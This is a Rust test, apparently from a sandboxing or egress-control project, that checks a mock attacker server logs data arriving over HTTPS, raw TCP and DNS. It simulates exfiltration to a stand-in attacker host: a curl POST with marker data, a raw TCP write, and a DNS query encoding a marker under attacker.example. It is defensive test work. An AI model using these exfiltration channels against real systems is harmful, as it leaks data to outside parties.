//! The attacker's recorder (shared/scenarios/exfiltration.md): HTTPS, raw
//! TCP and DNS all land in one log.

use std::io::Write as _;
use std::net::{TcpStream, UdpSocket};

use blastwall_mocks::TestCa;
use blastwall_mocks::attacker::{Attacker, HOST};

use super::{curl, have, loopback};

#[test]
fn everything_sent_is_recorded() {
    if !have("curl") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new("mock CA").unwrap();
    let ca_file = dir.path().join("ca.pem");
    std::fs::write(&ca_file, ca.cert_pem()).unwrap();
    let a = Attacker::new(&dir.path().join("attacker.jsonl"));
    let https = a
        .serve_http(loopback(), Some(ca.server_config(&[HOST]).unwrap()))
        .unwrap();
    let tcp_l = loopback();
    let tcp_port = tcp_l.local_addr().unwrap().port();
    let tcp = a.serve_tcp(tcp_l).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp_addr = udp.local_addr().unwrap();
    let dns = a.serve_dns(udp).unwrap();

    let (out, code) = curl(
        &ca_file,
        HOST,
        https.port(),
        &[
            "-d",
            "MARKER_HTTPS",
            &format!("https://{HOST}/x?q=MARKER_QS"),
        ],
    );
    assert_eq!(0, code, "{out}");
    let mut s = TcpStream::connect(("127.0.0.1", tcp_port)).unwrap();
    s.write_all(b"MARKER_TCP").unwrap();
    drop(s);
    // A DNS query for MARKERDNS.attacker.example.
    let mut q = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["MARKERDNS", "attacker", "example"] {
        q.push(u8::try_from(label.len()).unwrap());
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .send_to(&q, udp_addr)
        .unwrap();
    // Wait (bounded) for the raw recorders.
    for _ in 0..200 {
        if a.saw("MARKER_TCP") && a.saw("MARKERDNS") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    drop((tcp, dns));
    for m in [
        "MARKER_HTTPS",
        "MARKER_QS",
        "MARKER_TCP",
        "MARKERDNS.attacker.example",
    ] {
        assert!(a.saw(m), "{m} not recorded: {:?}", a.received());
    }
    assert!(a.received().iter().any(|r| r["via"] == "https"));
}
